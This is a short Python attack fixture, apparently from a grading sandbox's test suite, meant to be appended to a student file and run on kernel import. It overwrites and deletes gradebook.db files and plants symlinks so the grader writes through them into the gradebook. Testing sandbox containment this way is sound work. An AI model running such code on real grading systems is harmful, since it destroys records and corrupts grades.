"""Attack `wreck-the-gradebook` of test_sandbox.py's hostile class: writes over and removes the
gradebook, and leaves links for the grader to write through. Appended to the student's
nano/protocol.py after attack_prelude.py, it runs when the kernel imports it."""

import shutil
for db in [COURSE / "gradebook.db", COURSE / grade_dir / "gradebook.db"]:
    try:
        db.write_text("PWNED")
    except OSError:
        pass
    try:
        db.unlink()
    except OSError:
        pass
# the grader writes here after the kernel ends: links for it to write through
for name in ["01-mini.ipynb", "nano/trace.py", "gradebook-link"]:
    try:
        (Path.cwd() / name).unlink(missing_ok=True)
    except OSError:
        pass
    try:
        (Path.cwd() / name).symlink_to(COURSE / "gradebook.db")
    except OSError:
        pass
